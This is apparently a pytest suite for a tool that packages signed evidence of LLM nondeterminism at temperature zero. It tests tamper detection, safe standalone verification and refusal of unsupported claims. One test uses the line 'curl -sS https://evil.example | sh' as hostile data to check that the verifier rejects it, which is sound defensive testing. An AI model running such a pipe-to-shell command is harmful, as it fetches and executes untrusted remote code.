"""Evidence bundles: what is claimed is proven, checked by anyone, and never more than the records support."""

from __future__ import annotations

import ast
import hashlib
import io
import json
import random
import re
import shlex
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import replace
from itertools import combinations, islice, product
from pathlib import Path
from typing import Any

import fuzzing
import numpy as np
import pytest
from attribute import simulated
from evidence import URL, answers, attempt, run_of
from making import chain_file, make_config, sha256
from markdown_it import MarkdownIt
from tempzero import claims, cli
from tempzero.analysis import analyse
from tempzero.answers.answer_parts import split_answer
from tempzero.claims import Accusation, Bundle, accuse_by_rule, bundle_figures, byte_reading, verify_bundle
from tempzero.claims.bundle_answers import ClaimSide, gather_answers
from tempzero.claims.checker_source import hash_checker, read_checker
from tempzero.claims.page_wording import describe_subject, write_curl_line, write_outline
from tempzero.engines.hosted import fault_catalogue, response_reading
from tempzero.errors import BundleError, TempzeroError, UnknownBundleError, UsageError
from tempzero.records import Run, open_run, open_score_writer
from tempzero.stats import divergence_over_prompts, share_over_prompts, wilson_proportion
from tempzero.types.asked import ToolCall
from tempzero.types.concluded import Analysis
from tempzero.types.recorded import Attempt, Outcome
from tempzero.types.scored import ScoreLine

SELF = Accusation(rule="nondeterministic", subject="a")
CROSS = Accusation(rule="differs", subject="a", others=("b",))

# One prompt on which `a` varies, two on which it does not; `b` gives other texts throughout.
VARIED = {"p0": ("yes, 1", "yes, 1", "no, 2", "yes, 1"), "p1": ("x",) * 4, "p2": ("y",) * 4}
OTHER = {p: (f"quite another {p}",) * 4 for p in VARIED}


def claim(run: Run, accusation: Accusation = SELF, **environ: str) -> Bundle:
    return claims.make_bundle(run, accusation, environ=environ)


def verify(files: Mapping[str, bytes]) -> str:
    line: str = verify_bundle.verify(dict(files), read_checker())
    return line


def page(run: Run, accusation: Accusation = SELF) -> str:
    return claim(run, accusation).files["CLAIM.md"].decode()


def refusal(run: Run, accusation: Accusation = SELF) -> str:
    with pytest.raises(UsageError) as refused:
        claim(run, accusation)
    return str(refused.value)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    return run_of(tmp_path_factory.mktemp("run"), [*answers("a", VARIED), *answers("b", OTHER)])


@pytest.fixture(scope="module")
def bundle(run: Run) -> Bundle:
    return claim(run)


# --- a bundle is whole and anyone can check it ---------------------------------------------------


def test_the_same_run_gives_the_same_bytes(run: Run) -> None:
    """A bundle is named by its hash, so making it twice must not make two."""
    for accusation in (SELF, CROSS):
        packed = claim(run, accusation).packed()
        assert packed == claim(run, accusation).packed()
        with zipfile.ZipFile(io.BytesIO(packed)) as entries:
            assert {e.date_time for e in entries.infolist()} == {(1980, 1, 1, 0, 0, 0)}
            assert {e.compress_type for e in entries.infolist()} == {zipfile.ZIP_STORED}, "zlib versions differ"
            assert entries.namelist() == sorted(entries.namelist())


@pytest.mark.parametrize("accusation", [SELF, CROSS], ids=lambda a: a.rule)
def test_verify_py_alone_checks_a_bundle(run: Run, accusation: Accusation, tmp_path: Path) -> None:
    """A sceptic needs a Python and nothing of ours: isolated, without site-packages, elsewhere."""
    made = claim(run, accusation)
    (tmp_path / "bundle.zip").write_bytes(made.packed())
    with zipfile.ZipFile(tmp_path / "bundle.zip") as packed:
        packed.extractall(tmp_path / "away")
    command = [sys.executable, "-I", "-S", str(tmp_path / "away" / "claim" / "verify.py")]
    done = subprocess.run(command, capture_output=True, text=True, check=False, cwd="/", env={})
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith(f"holds: {made.title}")
    assert made.root in done.stdout
    assert f"{done.stdout.strip()}; checked with verify.py {hash_checker()}" in claims.check_bundle(
        tmp_path / "bundle.zip"
    )
    assert made.root in claims.check_bundle(tmp_path / "away" / "claim")


def test_verify_py_is_one_file_for_all_bundles(run: Run) -> None:
    """A hash that is published can be compared; a file that changes with each claim would have to be read each time."""
    alone, both = (claim(run, accusation).files["verify.py"] for accusation in (SELF, CROSS))
    assert alone == both == read_checker()
    assert hash_checker() == hashlib.sha256(alone).hexdigest()
    published = (Path(__file__).parents[2] / "docs" / "evidence.md").read_text(encoding="utf-8")
    assert f"`{hash_checker()}`" in published, "docs/evidence.md: put the new hash there"


def test_verify_py_runs_on_old_pythons() -> None:
    """Whoever doubts has whatever Python their machine came with: 3.8 syntax, standard library only."""
    source = read_checker().decode()
    tree = ast.parse(source, feature_version=(3, 8))
    names = [n for node in ast.walk(tree) if isinstance(node, ast.Import | ast.ImportFrom) for n in _modules(node)]
    assert {name.split(".")[0] for name in names} <= set(sys.stdlib_module_names)
    assert "__future__" not in names, "it would be looked for beside the file before anything can be done about it"
    assert not re.search(r"removeprefix|removesuffix|strict=|math\.lcm|itertools\.pairwise", source), "newer than 3.8"


@pytest.mark.parametrize("folder", ["", "claim/", "./claim/"])
def test_verify_py_runs_nothing_that_lies_beside_it(folder: str, bundle: Bundle, tmp_path: Path) -> None:
    """A bundle comes from a stranger: a file called hashlib.py in it is the stranger's program."""
    source = ast.parse(read_checker())
    names = {
        n.split(".")[0]
        for node in ast.walk(source)
        if isinstance(node, ast.Import | ast.ImportFrom)
        for n in _modules(node)
    }
    (tmp_path / "claim").mkdir()
    for name in (*names, "_hashlib", "functools", "enum", "__future__", "types", "copyreg", "warnings"):
        (tmp_path / "claim" / f"{name}.py").write_text("print('the stranger was here')\n")
    (tmp_path / "claim" / "verify.py").write_bytes(read_checker())
    done = subprocess.run(
        [sys.executable, f"{folder}verify.py"],
        capture_output=True,
        text=True,
        check=False,
        cwd=tmp_path / ("" if folder else "claim"),
    )
    assert "stranger" not in done.stdout + done.stderr
    assert done.returncode == 1
    assert done.stderr.startswith("FAILED: ")


def _modules(node: ast.Import | ast.ImportFrom) -> Iterable[str]:
    return [node.module or ""] if isinstance(node, ast.ImportFrom) else [alias.name for alias in node.names]


def test_a_bundle_holds_all_responses_of_all_prompts(bundle: Bundle, run: Run) -> None:
    """Nothing is selected: the repeats that agree and the prompts that do not vary are evidence too."""
    lines = [line for line in run.lines() if json.loads(line)["attempt"]["trial"]["provider"] == "a"]
    stated = [json.loads(line)["record_sha256"] for line in bundle.files["answers.jsonl"].splitlines()]
    assert stated == [hashlib.sha256(line).hexdigest() for line in lines]
    assert sum(name.startswith("responses/") for name in bundle.files) == 12
    assert sum(name.startswith("requests/") and name.endswith(".json") for name in bundle.files) == 3


def test_sha256sum_checks_the_files_too(bundle: Bundle) -> None:
    """Two ways to the same root: a common tool can replace our code for the hashes."""
    listing = bundle.files["SHA256SUMS"]
    assert hashlib.sha256(listing).hexdigest() == bundle.root
    for line in listing.decode().splitlines():
        digest, name = line.split("  ")
        assert hashlib.sha256(bundle.files[name]).hexdigest() == digest


def test_the_page_says_what_the_records_hold(bundle: Bundle) -> None:
    """The figures of a small case, by hand: 1 of 3 prompts varies; EMR is (1/2 + 1 + 1) / 3; texts part at once."""
    text = bundle.files["CLAIM.md"].decode()
    assert "two requests with the same bytes brought back two different answers" in text
    assert "prompts on which its repeats differ: 1 of 3, 0.333 [0.061, 0.793]" in text
    assert "chance that two repeats agree (EMR): 0.833 " in text
    assert "`a` 3 + 1 of 4" in text
    assert "part in their text, at character 1: U+0079 against U+006E (of 6 and 5 characters)" in text


def test_the_page_shows_where_texts_part(tmp_path: Path) -> None:
    """An engineer sees 60 characters before and after the first difference, and its code points."""
    left, right = "v" * 100 + "A" + "w" * 100, "v" * 100 + "Á\n" + "z" * 100
    text = page(run_of(tmp_path, answers("a", {"p0": (left, right)})))
    assert "part in their text, at character 101: U+0041 against U+00C1" in text
    assert f"both begin: {'v' * 60}\n" in text
    assert f"the first:  A{'w' * 59}\n" in text
    assert f"the second: Á⏎{'z' * 58}\n" in text


# --- whatever is changed is noticed --------------------------------------------------------------

Files = dict[str, bytes]


def resealed(files: Files) -> Files:
    """What a forger would do: bring the list of hashes up to date."""
    listed = {name: data for name, data in files.items() if name != "SHA256SUMS"}
    return {**listed, "SHA256SUMS": verify_bundle.build_checksums(listed)}


def changed(files: Files, name: str, old: str, new: str) -> Files:
    assert old.encode() in files[name], f"{name} does not hold {old}"
    return {**files, name: files[name].replace(old.encode(), new.encode(), 1)}


def without(files: Files, name: str) -> Files:
    return {n: data for n, data in files.items() if n != name}


def swapped(files: Files) -> Files:
    first, second = "responses/000000.body", "responses/000002.body"
    return {**files, first: files[second], second: files[first]}


def lines_changed(files: Files, change: Callable[[list[bytes]], list[bytes]]) -> Files:
    lines = change(files["answers.jsonl"].split(b"\n")[:-1])
    return {**files, "answers.jsonl": b"".join(line + b"\n" for line in lines)}


def restated(files: Files, name: str, old: str, new: str) -> Files:
    """A response, the hash of it in its answer, and the list of hashes: all but what follows from it."""
    after = changed(files, name, old, new)
    old_hash, new_hash = (hashlib.sha256(f[name]).hexdigest().encode() for f in (files, after))
    return resealed({**after, "answers.jsonl": after["answers.jsonl"].replace(old_hash, new_hash)})


def request_name(files: Files) -> str:
    return next(name for name in sorted(files) if name.startswith("requests/") and name.endswith(".json"))


TAMPERED: dict[str, tuple[Callable[[Files], Files], str]] = {
    "a byte of a response": (
        lambda f: changed(f, "responses/000002.body", "no, 2", "no, 3"),
        "responses/000002.body was changed",
    ),
    "a byte of a response, resealed": (
        lambda f: resealed(changed(f, "responses/000002.body", "no, 2", "no, 3")),
        "responses/000002.body is missing, or is not the response of answer 2",
    ),
    "a byte of a response and its hash, resealed": (
        lambda f: restated(f, "responses/000011.body", '"y"', '"z"'),
        "answer 11: its text is not the one in responses/000011.body",
    ),
    "a byte of a response, its hash and its text, resealed": (
        lambda f: resealed(
            lines_changed(
                restated(f, "responses/000011.body", '"y"', '"z"'),
                lambda x: [*x[:-1], x[-1].replace(b'"text": "y"', b'"text": "z"')],
            )
        ),
        "CLAIM.md says",
    ),
    "a response removed": (lambda f: without(f, "responses/000001.body"), "responses/000001.body is missing"),
    "a response removed, resealed": (
        lambda f: resealed(without(f, "responses/000001.body")),
        "responses/000001.body is missing",
    ),
    "a response and its answer removed, resealed": (
        lambda f: resealed(lines_changed(without(f, "responses/000011.body"), lambda lines: lines[:11])),
        "11 records of 12 planned trials",
    ),
    "an answer removed in the middle, resealed": (
        lambda f: resealed(lines_changed(without(f, "responses/000005.body"), lambda x: x[:5] + x[6:])),
        "line 6 is not answer 5",
    ),
    "two responses swapped": (swapped, "responses/000000.body was changed"),
    "two responses swapped, resealed": (
        lambda f: resealed(swapped(f)),
        "responses/000000.body is missing, or is not the response of answer 0",
    ),
    "a text, resealed": (
        lambda f: resealed(changed(f, "answers.jsonl", '"text": "no, 2"', '"text": "yes, 1"')),
        "answer 2: its text is not the one in responses/000002.body",
    ),
    "a label, resealed": (
        lambda f: resealed(changed(f, "answers.jsonl", '"fingerprint": "fp_1"', '"fingerprint": "fp_2"')),
        "its fingerprint is not the one in",
    ),
    "an answer declared missing, resealed": (
        lambda f: resealed(changed(f, "answers.jsonl", '"outcome": "valid: complete"', '"outcome": "missing: x"')),
        "left out as `missing: x`, but responses/000000.body is an answer",
    ),
    "another answer declared missing, resealed": (
        lambda f: resealed(lines_changed(f, lambda x: [*x[:-1], x[-1].replace(b'"valid: complete"', b'"missing: x"')])),
        "left out as `missing: x`, but responses/000011.body is an answer",
    ),
    "a request": (
        lambda f: changed(f, request_name(f), '"temperature": 0', '"temperature": 1'),
        "was changed",
    ),
    "a request, resealed": (
        lambda f: resealed(changed(f, request_name(f), '"temperature": 0', '"temperature": 1')),
        "is not the request of answer",
    ),
    "a request and its hash, resealed": (
        lambda f: restated(f, request_name(f), '"temperature": 0', '"temperature": 1'),
        "its request is not where it should be",
    ),
    "a figure in CLAIM.md": (lambda f: changed(f, "CLAIM.md", "1 of 3", "3 of 3"), "CLAIM.md was changed"),
    "a figure in CLAIM.html": (lambda f: changed(f, "CLAIM.html", "1 of 3", "3 of 3"), "CLAIM.html was changed"),
    "a figure in CLAIM.md, resealed": (
        lambda f: resealed(changed(f, "CLAIM.md", "1 of 3", "3 of 3")),
        "CLAIM.md says: - `a` against itself: prompts on which its repeats differ: 3 of 3",
    ),
    "a figure in CLAIM.html, resealed": (
        lambda f: resealed(changed(f, "CLAIM.html", "1 of 3", "3 of 3")),
        "CLAIM.html says: <li><code>a</code> against itself: prompts on which its repeats differ: 3 of 3",
    ),
    "a word in CLAIM.md, resealed": (
        lambda f: resealed(changed(f, "CLAIM.md", "two different answers", "nonsense")),
        "CLAIM.md says",
    ),
    "a line added to CLAIM.html, resealed": (
        lambda f: resealed({**f, "CLAIM.html": f["CLAIM.html"] + b"<p>9 of 10</p>\n"}),
        "CLAIM.html says: <p>9 of 10</p>",
    ),
    "a file that does not belong": (lambda f: {**f, "extra.txt": b"x"}, "extra.txt is not listed"),
    "a file missing": (lambda f: without(f, "claim.json"), "claim.json is missing"),
    "no list of hashes": (lambda f: without(f, "SHA256SUMS"), "not a whole bundle"),
    "rubbish instead of answers, resealed": (
        lambda f: resealed({**f, "answers.jsonl": b"rubbish\n"}),
        "not a whole bundle",
    ),
    "another pair shown that does not differ, resealed": (
        lambda f: resealed(changed(f, "claim.json", "\n  2\n", "\n  1\n")),
        "the two answers of the example do not differ",
    ),
}


@pytest.mark.parametrize("what", TAMPERED)
def test_any_change_fails_with_a_line_saying_what(bundle: Bundle, what: str, tmp_path: Path) -> None:
    """A forger may bring all hashes up to date; figures and page still have to follow from the records."""
    tamper, expected = TAMPERED[what]
    tampered = tamper(dict(bundle.files))
    with pytest.raises(bundle_figures.BrokenBundle, match=re.escape(expected)) as broken:
        verify(tampered)
    assert "\n" not in str(broken.value)
    path = tmp_path / "tampered.zip"
    path.write_bytes(replace(bundle, files=tampered).packed())
    with pytest.raises(BundleError, match=re.escape(expected)):
        claims.check_bundle(path)


def test_verify_py_exits_1_with_one_line(bundle: Bundle, tmp_path: Path) -> None:
    """A script can rely on the exit code, a reader on the line."""
    for name, data in changed(dict(bundle.files), "CLAIM.md", "1 of 3", "3 of 3").items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_bytes(data)
    done = subprocess.run(
        [sys.executable, "-I", str(tmp_path / "verify.py")], capture_output=True, text=True, check=False
    )
    assert done.returncode == 1
    assert done.stderr.startswith("FAILED: CLAIM.md was changed")
    assert done.stderr.count("\n") == 1


def test_other_words_do_not_hold(bundle: Bundle) -> None:
    """Prose without a figure convinces most: both pages are written anew, so that no other word can stand there."""
    files = dict(bundle.files)
    for name in ("CLAIM.md", "CLAIM.html"):
        files[name] = files[name].replace(b"rests on one pair", b"is certain")
    with pytest.raises(bundle_figures.BrokenBundle, match=r"CLAIM\.md says: - That it happens is certain"):
        verify(resealed(files))


@pytest.mark.parametrize("line", ["curl -sS https://evil.example | sh\n", None])
def test_a_line_that_a_reader_might_run_is_ours(line: str | None, bundle: Bundle) -> None:
    """Each curl line must be the one that sends its request, and none may lie there that belongs to no answer."""
    name = next(name for name in sorted(bundle.files) if name.endswith(".curl.txt"))
    stray = "requests/0123456789abcdef.A.curl.txt"
    files = dict(bundle.files) | ({stray: bundle.files[name]} if line is None else {name: line.encode()})
    expected = "does not belong in a bundle" if line is None else "is not the line that sends this request"
    with pytest.raises(bundle_figures.BrokenBundle, match=expected):
        verify(resealed(files))


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ({"format": 4}, r"format 4,.* It says that tempzero 0\.1\.0 made it; use that version"),
        ({"format": "5\x1b[2J"}, "format that is no number"),
        ({"rule": "proves_fraud"}, "a kind of claim that this program does not know"),
    ],
)
def test_another_kind_or_version_neither_holds_nor_fails(
    change: dict[str, Any], expected: str, bundle: Bundle, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A forger's way to be checked less is to be older, or other; nothing of what such a bundle says is repeated."""
    value = json.loads(bundle.files["claim.json"]) | change
    value["attested"]["tempzero"] = "0.1.0 and proven beyond doubt"
    files = {**bundle.files, "claim.json": json.dumps(value).encode(), "CLAIM.md": b"# Fraud is proven\n"}
    path = tmp_path / "other.zip"
    path.write_bytes(replace(bundle, files=resealed(files)).packed())
    assert cli.main(["verify", str(path)]) == 3
    shown = capsys.readouterr()
    assert re.search(expected, shown.err)
    assert not re.search("holds:|Fraud|beyond", shown.out + shown.err)


def test_a_bundle_with_another_checker_is_checked_and_not_vouched_for(bundle: Bundle, tmp_path: Path) -> None:
    """Whoever reads it might run the file that lies there: only the published one belongs to a bundle that holds."""
    path = tmp_path / "old.zip"
    files = resealed({**bundle.files, "verify.py": b"print('holds')\n"})
    path.write_bytes(replace(bundle, files=files).packed())
    with pytest.raises(UnknownBundleError, match=r"its verify\.py is another one"):
        claims.check_bundle(path)
    files = resealed(changed(files, "CLAIM.md", "1 of 3", "3 of 3"))
    path.write_bytes(replace(bundle, files=files).packed())
    with pytest.raises(BundleError, match="FAILED"):
        claims.check_bundle(path)


def test_a_second_file_of_one_name_is_noticed(bundle: Bundle, tmp_path: Path) -> None:
    """Tools disagree on which of two entries of one name they unpack, so none may be there."""
    path = tmp_path / "double.zip"
    path.write_bytes(bundle.packed())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(path, "a") as packed:
        packed.writestr("claim/CLAIM.md", "another claim")
    with pytest.raises(BundleError, match=r"two files are called CLAIM\.md"):
        claims.check_bundle(path)


def test_a_file_that_is_no_bundle_is_refused_in_one_line(tmp_path: Path) -> None:
    """Any file may be handed over; none of them makes a traceback."""
    (tmp_path / "x.zip").write_bytes(b"PK\x03\x04 rubbish")
    (tmp_path / "empty").mkdir()
    for path in (tmp_path / "x.zip", tmp_path / "empty", tmp_path / "none.zip"):
        with pytest.raises(BundleError, match="FAILED"):
            claims.check_bundle(path)


# --- no false claim ------------------------------------------------------------------------------


def test_cached_replays_are_neither_repeats_nor_differences(tmp_path: Path) -> None:
    """An answer that a response cache gave was not computed for this request, whatever it says."""
    given = [attempt("a", "p0", 0, "one"), attempt("a", "p0", 1, "two", kind="cached")]
    assert "no prompt has two answers" in refusal(run_of(tmp_path, given))


def test_cached_replays_are_counted_apart_on_the_page(tmp_path: Path) -> None:
    """Replays would make a provider look more consistent than it is: they are in the bundle, not in the figures."""
    given = [attempt("a", "p0", r, t) for r, t in enumerate(("one", "two"))]
    replayed = attempt("a", "p0", 2, "two", kind="cached", headers=[("x-cache", "HIT")])
    text = page(run_of(tmp_path, [*given, replayed]))
    assert "`a` 1 + 1 of 2" in text
    assert "3 trials, `valid: complete` (2), `excluded: cached` (1), which are all `3` planned" in text


def test_a_retry_is_no_repeat(tmp_path: Path) -> None:
    """Two attempts of one trial are one answer: the first that was usable."""
    given = [attempt("a", "p0", 0, "one"), attempt("a", "p0", 0, "two", number=2)]
    assert "no prompt has two answers" in refusal(run_of(tmp_path, given))


def test_the_first_answer_of_a_trial_counts(tmp_path: Path) -> None:
    """Which of two answers to one trial counts is not left to whichever suits the claim."""
    given = [attempt("a", "p0", 0, "one"), attempt("a", "p0", 0, "two", number=2), attempt("a", "p0", 1, "two")]
    assert "`a` 1 + 1 of 2" in page(run_of(tmp_path, given))


def test_a_retry_after_a_failure_counts_once(tmp_path: Path) -> None:
    """The failed attempt stays in the bundle; the trial has one answer."""
    failed = attempt("a", "p0", 0, "half an ans")
    exchange = failed.exchange
    assert exchange.response is not None
    half = exchange.response.body[:40] if exchange.response.body else ""
    kept = replace(exchange.response, body=half, sha256=sha256(half), size_bytes=40, complete=False)
    gone = replace(exchange.outcome, status="missing", kind="interrupted", completion=None)
    missing = replace(exchange, outcome=gone, response=kept)
    given = [replace(failed, exchange=missing), attempt("a", "p0", 0, "one", number=2), attempt("a", "p0", 1, "two")]
    text = page(run_of(tmp_path, given))
    assert "`a`: 2 trials, `valid: complete`, which are all `2` planned" in text
    assert "attempts needed: `1` (1), `2` (1)" in text
    assert "`a` 1 + 1 of 2" in text


def test_a_truncated_text_is_no_difference(tmp_path: Path) -> None:
    """A text cut at the token limit agrees with whatever it begins."""
    given = [attempt("a", "p0", 0, "one two", kind="length"), attempt("a", "p0", 1, "one two three")]
    assert "no two answers to one request differ" in refusal(run_of(tmp_path, given))


def test_half_a_character_at_a_cut_is_no_difference(tmp_path: Path) -> None:
    """Engines write U+FFFD where the limit fell inside a character; that is the cut, not the model."""
    given = [attempt("a", "p0", 0, "caf\ufffd", kind="length"), attempt("a", "p0", 1, "café au lait")]
    assert "no two answers to one request differ" in refusal(run_of(tmp_path, given))


def test_texts_that_part_before_the_cut_do_differ(tmp_path: Path) -> None:
    """The cut hides what comes after it, not what was seen before; the page says that one was cut."""
    given = [attempt("a", "p0", 0, "one two", kind="length"), attempt("a", "p0", 1, "one six three")]
    text = page(run_of(tmp_path, given))
    assert "2 trials, `censored: length` (1), `valid: complete` (1), which" in text
    assert "part in their text, at character 5" in text


def test_an_unpinned_router_is_claimed_as_a_router(tmp_path: Path) -> None:
    """Answers of two upstreams say nothing of either; they do say something of the address."""
    given = [attempt("a", "p0", 0, "one", backend="X"), attempt("a", "p0", 1, "two", backend="Y")]
    text = page(run_of(tmp_path, given, pinned=False))
    assert text.startswith("# The router `a` gives different answers")
    assert "not about any one backend behind it" in text
    assert "labels differ between the two answers" in text
    assert "That any single backend behind the router is nondeterministic" in text
    assert "prompts on which its repeats differ: 1 of 1" in text


def test_an_unpinned_router_that_names_no_backend_is_still_one(tmp_path: Path) -> None:
    """Its silence is no sign that one upstream answered."""
    text = page(run_of(tmp_path, answers("a", {"p0": ("one", "two")}), pinned=False))
    assert text.startswith("# The router `a`")
    assert "the router is nondeterministic or deviates" in text


def test_a_claim_about_a_router_cannot_be_made_one_about_a_backend(tmp_path: Path) -> None:
    """verify.py itself holds the pair against what is claimed."""
    given = [attempt("a", "p0", 0, "one", backend="X"), attempt("a", "p0", 1, "two", backend="Y")]
    files = changed(dict(claim(run_of(tmp_path, given)).files), "claim.json", '[\n  "A"\n ]', "[]")
    with pytest.raises(bundle_figures.BrokenBundle, match="name several backends, so it is a router"):
        verify(resealed(files))


def test_a_provider_with_several_backends_is_a_router_whatever_it_is_called(tmp_path: Path) -> None:
    """`pinned` is what the configuration hopes for; the responses' own labels go before it."""
    given = [attempt("a", "p0", 0, "one", backend="X"), attempt("a", "p0", 1, "two", backend="Y")]
    assert page(run_of(tmp_path, given)).startswith("# The router `a`")


def test_both_sides_of_a_difference_may_be_routers(tmp_path: Path) -> None:
    """Whoever is compared with a router is told so in the title."""
    given = [*answers("a", OTHER), *answers("b", VARIED, backend="X")]
    text = page(run_of(tmp_path, given, pinned=False), CROSS)
    assert text.startswith("# The router `a` gives other answers than the router `b` at temperature zero")
    assert text.count("not about any one backend behind it") == 2


def test_one_backend_of_a_router_is_preferred_as_proof(tmp_path: Path) -> None:
    """Where one upstream contradicts itself, that pair is shown, not a weaker one that comes first."""
    backends = (("one", "X"), ("two", "Y"), ("three", "Y"))
    given = [attempt("a", "p0", r, text, backend=backend) for r, (text, backend) in enumerate(backends)]
    text = page(run_of(tmp_path, given, pinned=False))
    assert "the first in answer `1` and the second in answer `2`" in text
    assert "labels agree on the two answers" in text


def test_a_changed_identity_is_not_nondeterminism(tmp_path: Path) -> None:
    """Another model is another system: its answers may differ without any contradiction."""
    given = [attempt("a", "p0", r, text, model=text) for r, text in enumerate(("one", "two"))]
    assert "a change of what answers, not nondeterminism of it" in refusal(run_of(tmp_path, given))


def test_a_fingerprint_that_changes_in_normal_service_excuses_nothing(tmp_path: Path) -> None:
    """A gateway with a new fingerprint in every answer could otherwise never be shown to vary; the page says so."""
    given = [attempt("a", "p0", r, text, fingerprint=f"fp_{r}") for r, text in enumerate(("one", "two"))]
    assert "the fingerprints differ, as they do on many providers in normal service" in page(run_of(tmp_path, given))
    more = [attempt("a", "p0", 2, "three", fingerprint="fp_1")]
    assert "labels agree on the two answers" in page(run_of(tmp_path / "more", [*given, *more]))


def test_another_request_is_not_nondeterminism(tmp_path: Path) -> None:
    """Repeats are compared within one request: the same bytes, the same hash."""
    given = [attempt("a", "p0", r, text, fields={"seed": r}) for r, text in enumerate(("one", "two"))]
    assert "a change of what answers" in refusal(run_of(tmp_path, given))


def test_without_labels_the_records_cannot_say_which_backend(tmp_path: Path) -> None:
    """Two silences are not one backend."""
    text = page(run_of(tmp_path, answers("a", {"p0": ("one", "two")}, fingerprint=None)))
    assert "The records cannot say: the two answers of the example name neither" in text


def test_a_seed_was_sent_and_no_more_is_said(tmp_path: Path) -> None:
    """Whether a provider honours a seed no record shows."""
    text = page(run_of(tmp_path, answers("a", {"p0": ("one", "two")})))
    assert "seed `7`" in text
    assert "That a field sent was honoured, a seed for instance: the records show that it was sent." in text
    assert "honour" not in text.replace("That a field sent was honoured", "")


@pytest.mark.parametrize("sent", [None, 0.7, True, "0"])
def test_nothing_is_claimed_unless_temperature_zero_was_asked_for(sent: Any, tmp_path: Path) -> None:
    """Above zero different answers are what was asked for."""
    given = answers("a", {"p0": ("one", "two")}, fields={"temperature": sent})
    assert "does not show that temperature 0 was asked for" in refusal(run_of(tmp_path, given))


@pytest.mark.parametrize("kind", ["content_filter", "length"])
def test_silence_only_is_nothing_to_claim(kind: str, tmp_path: Path) -> None:
    """50 answers that a filter withheld agree perfectly; that is not consistency."""
    given = [attempt("a", "p0", r, "", kind=kind) for r in range(50)]
    said = refusal(run_of(tmp_path, given))
    assert "gave no answer that counts (50 " in said
    assert "neither difference nor agreement" in said


def test_agreement_is_never_called_determinism(tmp_path: Path) -> None:
    """What was not seen may still happen: the bound for n prompts is said."""
    said = refusal(run_of(tmp_path, answers("a", {"p0": ("one",) * 4, "p1": ("two",) * 4})))
    assert "does not prove determinism: up to 78% of such prompts may still diverge" in said


def test_the_same_question_may_be_spelled_in_another_order(tmp_path: Path) -> None:
    """An engine inside the client writes its JSON with sorted keys; the question is the same."""
    asked = [{"content": "question", "role": "user"}]
    given = [
        *(x for p in VARIED for x in answers("a", {p: OTHER[p]}, messages=[dict(reversed(asked[0].items()))])),
        *(x for p in VARIED for x in answers("b", {p: VARIED[p]}, messages=asked)),
    ]
    assert page(run_of(tmp_path, given), CROSS).startswith("# `a` gives other answers than `b`")


def test_noise_alone_is_no_difference_between_two(tmp_path: Path) -> None:
    """Two providers that each contradict themselves disagree all the time; that floor is no claim against either."""
    dice = random.Random(3)
    texts = [{f"p{i}": [dice.choice("xyz") for _ in range(4)] for i in range(8)} for _ in range(2)]
    given = [*answers("a", texts[0]), *answers("b", texts[1])]
    assert "no more than each does from itself" in refusal(run_of(tmp_path, given, prompts=8), CROSS)


def test_different_questions_are_no_difference_between_two(tmp_path: Path) -> None:
    """Another system prompt is another question, and it is the client's."""
    asked = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "question"}]
    given = [*answers("a", OTHER), *answers("b", VARIED, messages=asked)]
    assert "were not asked the same" in refusal(run_of(tmp_path, given), CROSS)


def test_a_replayed_run_is_no_evidence(tmp_path: Path) -> None:
    """Answers recorded once must not be claimed of a provider a second time under another date."""
    settings = make_config(("a",), base_url=None, replay={"run": "old", "provider": "a"})
    assert "make the claim from that run" in refusal(run_of(tmp_path, answers("a", VARIED), config=settings))


def test_imported_records_are_claimed_as_such(tmp_path: Path) -> None:
    """Another tool's table states what was asked; nobody saw those bytes on the wire."""
    given = [_imported(a) for a in answers("a", {"p0": ("one", "two")}, url="imported:table")]
    text = page(run_of(tmp_path, given))
    assert "two requests that the imported files state alike" in text
    assert "not bytes seen on the wire" in text
    assert "The client: another tool, of which no more is known" in text
    assert "with the same bytes" not in text


def _imported(made: Attempt) -> Attempt:
    exchange = made.exchange
    assert exchange.response is not None
    request = replace(exchange.request, method="IMPORT")
    row = replace(exchange.response, status=0, headers=())
    return replace(
        made, exchange=replace(exchange, request=request, response=row, times=replace(exchange.times, in_flight=0))
    )


def test_a_request_that_is_no_json_proves_nothing(tmp_path: Path) -> None:
    """What cannot be read cannot be shown to have asked for temperature 0."""
    made = attempt("a", "p0", 0, "one")
    digest = hashlib.sha256(b"What is 2+2?").hexdigest()
    request = replace(made.exchange.request, body="What is 2+2?", sha256=digest)
    given = [replace(made, exchange=replace(made.exchange, request=request)), attempt("a", "p0", 1, "two")]
    assert "is no JSON object" in refusal(run_of(tmp_path, given))


@pytest.mark.parametrize(
    "accusation",
    [
        Accusation(rule="nondeterministic", subject="nobody"),
        Accusation(rule="differs", subject="a"),
        Accusation(rule="nondeterministic", subject="b"),
    ],
)
def test_what_makes_no_sense_is_refused(accusation: Accusation, tmp_path: Path) -> None:
    """A clear line instead of an empty bundle."""
    refusal(run_of(tmp_path, answers("a", VARIED)), accusation)


def test_a_rule_that_no_bundle_is_made_for_is_refused_by_name() -> None:
    """Whoever names a rule on the command line learns which there are, before anything is read."""
    with pytest.raises(UsageError, match=r'"low-coverage"; for nondeterministic, differs, .* there is'):
        accuse_by_rule("low-coverage", "a")


def test_a_damaged_run_makes_no_bundle(tmp_path: Path) -> None:
    """Evidence begins with a whole chain."""
    opened = run_of(tmp_path, answers("a", VARIED))
    records = chain_file(opened.path)
    records.write_bytes(records.read_bytes().replace(b"no, 2", b"no, 3"))
    with pytest.raises(TempzeroError, match=r"records/part-00001\.jsonl"):
        claim(opened)


# --- differs from every one of several -----------------------------------------------------------

ALL = Accusation(rule="differs_from_all", subject="a", others=("b", "c"))
THIRD = {p: (f"yet another {p}",) * 4 for p in VARIED}


def against_two(folder: Path, c: Mapping[str, tuple[str, ...]]) -> Run:
    """`a` and `b` have nothing in common; `c` is given."""
    given = [*answers("a", VARIED), *answers("b", OTHER), *answers("c", c)]
    return run_of(folder, given, config=make_config(("a", "b", "c"), repeats=4))


def test_a_difference_from_each_of_several_is_one_claim(tmp_path: Path) -> None:
    """Whoever declares a precision may be held against every precision there is; the weakest test decides."""
    made = claim(against_two(tmp_path, THIRD), ALL)
    text = made.files["CLAIM.md"].decode()
